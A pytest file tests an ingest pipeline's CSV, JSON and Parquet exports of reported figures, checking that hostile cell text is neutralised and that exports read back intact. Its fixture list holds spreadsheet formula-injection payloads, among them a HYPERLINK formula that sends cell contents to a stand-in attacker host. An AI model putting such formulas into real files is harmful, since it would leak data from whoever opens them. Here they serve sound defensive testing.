"""Exports hold the rows of a snapshot, and no spreadsheet runs what a report says."""

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import duckdb
import pytest

from ingest.errors import StoreError
from ingest.model import snapshot as layout
from ingest.model.cells import plain_cell, safe_cell
from ingest.model.schema import DISCREPANCIES, FIGURES, RULED, TABLES
from ingest.model.snapshot import FIGURES_CSV, TABLE_FILES
from ingest.publish import exports
from ingest.store.tidy import Origin, read_table

Rows = Callable[[Path, str], list[dict[str, Any]]]
NASTY = [
    *('=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "＝1", "'=1"),
    *("plain", 'with "marks", commas\nand lines', "قتلى", ""),
]


def _read(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


@pytest.fixture
def folder(newsroom: Any) -> Path:
    """A snapshot whose figures have the labels of a hostile report."""
    for label in NASTY:
        newsroom.add(group_label=label, place_text=label, value_high=None, coverage_area=("SY02", "SY07"))
    published: Path = newsroom.publish().path
    return published


def test_the_csv_neutralises_text_and_only_text(folder: Path, rows: Rows) -> None:
    """DuckDB writes exactly what `safe_cell` makes of each text; numbers, days and truth values are typed and plain."""
    found = {row["figure_id"]: row for row in _read(folder / FIGURES_CSV / "2024-11.csv")}
    stored = {row["figure_id"]: row for row in rows(folder, "figures")}
    assert {identity: row["group_label"] for identity, row in found.items()} == {
        identity: safe_cell(row["group_label"]) for identity, row in stored.items()
    }
    assert {plain_cell(row["group_label"]) for row in found.values()} == set(NASTY)
    row = next(iter(found.values()))
    assert (row["value_low"], row["value_high"], row["interval_open_high"], row["coverage_area"]) == ("4", "", "true", "SY02;SY07")
    assert (row["event_start"], row["published_at"]) == ("2024-11-30", "2024-11-30T20:00:00Z")


def test_csv_has_the_published_header(folder: Path, tmp_path: Path) -> None:
    """Columns in the order of the schema; a byte order mark and the HXL row on demand."""
    plain, tagged = tmp_path / "plain.csv", tmp_path / "tagged.csv"
    assert exports.write_csv(folder, "figures", plain) == len(NASTY)
    exports.write_csv(folder, "figures", tagged, bom=True, hxl=True)
    lines = tagged.read_bytes().split(b"\n", 2)
    assert lines[0] == b"\xef\xbb\xbf" + ",".join(column.name for column in FIGURES).encode()
    assert lines[1].decode() == ",".join(column.hxl for column in FIGURES)
    assert plain.read_bytes() == lines[0].removeprefix(b"\xef\xbb\xbf") + b"\n" + lines[2]
    assert plain.read_bytes() == (folder / FIGURES_CSV / "2024-11.csv").read_bytes()


@pytest.mark.parametrize("options", [{}, {"bom": True, "hxl": True}])
def test_an_export_can_be_read_back(folder: Path, tmp_path: Path, newsroom: Any, options: dict[str, bool]) -> None:
    """An exported table is a tidy table: every row comes back under its identity, and adds nothing to the ledger it came from."""
    path = tmp_path / "out.csv"
    exports.write_csv(folder, "figures", path, **options)
    document, figures, rejections = read_table(path.read_bytes(), newsroom.crisis, Origin("out.csv", newsroom.clock))
    assert rejections == ()
    assert {figure.group_label.strip() for figure in figures} == {label.strip() for label in NASTY}
    assert newsroom.ledger.add([document], figures, newsroom.clock).figures == 0


def test_an_empty_table_is_a_header(folder: Path, tmp_path: Path) -> None:
    """A table without rows is exported with its columns, verdicts with those of rulings where the folder holds rulings."""
    path = tmp_path / "none.csv"
    assert exports.write_csv(folder, "discrepancies", path) == 0
    assert path.read_text() == ",".join(column.name for column in (*DISCREPANCIES, *RULED)) + "\n"
    (folder / TABLE_FILES["rulings"]).unlink()
    exports.write_csv(folder, "discrepancies", path)
    assert path.read_text() == ",".join(column.name for column in DISCREPANCIES) + "\n"
    assert exports.write_json(folder, "discrepancies", path) == 0
    assert json.loads(path.read_text()) == []


def test_json_keeps_types(folder: Path, tmp_path: Path) -> None:
    """Numbers are numbers, lists are lists, what is not stated is null, text is text as it was."""
    path = tmp_path / "out.json"
    assert exports.write_json(folder, "figures", path) == len(NASTY)
    found = json.loads(path.read_text(encoding="utf-8"))
    assert {row["group_label"] or "" for row in found} == set(NASTY)
    row = found[0]
    assert (row["value_low"], row["value_high"], row["interval_open_high"]) == (4, None, True)
    assert (row["coverage_area"], row["relayed_via"], row["group_sex"]) == (["SY02", "SY07"], [], None)
    assert (row["event_start"], row["published_at"]) == ("2024-11-30", "2024-11-30T20:00:00Z")
    assert list(row) == [column.name for column in FIGURES]


def test_parquet_is_one_file_of_what_is_published(folder: Path, tmp_path: Path) -> None:
    """A table of several files becomes one with the same rows; a table of one file is that file."""
    path = tmp_path / "out.parquet"
    assert exports.write_parquet(folder, "figures", path) == len(NASTY)
    both, fewer = [str(path), layout.pattern(folder, "figures")], "SELECT count(*) FROM (FROM read_parquet(?) EXCEPT FROM read_parquet(?))"
    with duckdb.connect() as opened:
        assert [opened.execute(fewer, order).fetchall() for order in (both, both[::-1])] == [[(0,)], [(0,)]]
    exports.write_parquet(folder, "rulings", path)
    assert path.read_bytes() == (folder / TABLE_FILES["rulings"]).read_bytes()


def test_an_export_appears_whole_or_not_at_all(folder: Path, tmp_path: Path) -> None:
    """Where it cannot be written there is a sentence and no file; what stood there before stays."""
    with pytest.raises(StoreError, match=r"nowhere/out\.csv could not be written"):
        exports.write_csv(folder, "figures", tmp_path / "nowhere" / "out.csv")
    before = tmp_path / "out.json"
    before.write_text("before")
    with pytest.raises(StoreError, match=r"out\.json could not be written"):
        exports.write_json(tmp_path / "missing", "figures", before)
    assert before.read_text() == "before"
    assert sorted(path.name for path in tmp_path.iterdir() if path.name.startswith(".")) == []


def test_the_dictionary_explains_every_column() -> None:
    """One line per column with type, meaning, words and HXL tag; the whole dictionary names every table."""
    found = list(csv.DictReader(io.StringIO(exports.dictionary_csv("figures"), newline="")))
    assert [row["column"] for row in found] == [column.name for column in FIGURES]
    assert all(row["meaning"] for row in found)
    assert {plain_cell(row["hxl"]) for row in found} == {column.hxl for column in FIGURES}
    assert all(f"## {table}" in exports.dictionary_markdown() for table in TABLES)
